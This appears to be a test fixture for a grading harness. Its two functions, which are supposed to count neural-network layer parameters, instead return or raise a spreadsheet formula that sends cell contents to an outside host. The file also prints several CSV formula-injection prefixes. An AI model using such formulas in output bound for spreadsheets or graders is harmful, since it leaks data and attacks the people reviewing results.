"""Begins every text as a spreadsheet begins a formula.

earns: linear_params 0, conv2d_params 0
verdicts: failed, raised
says: HYPERLINK
"""

FORMULA = '=HYPERLINK("https://example.org?"&A1,"grade")'
print(FORMULA, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", ";=1", ',"=1"', sep="\n")


def linear_params(in_features, out_features, bias=True):
    raise type("NoNetwork", (Exception,), {})(FORMULA)


def conv2d_params(in_channels, out_channels, kernel_size, bias=True):
    return FORMULA
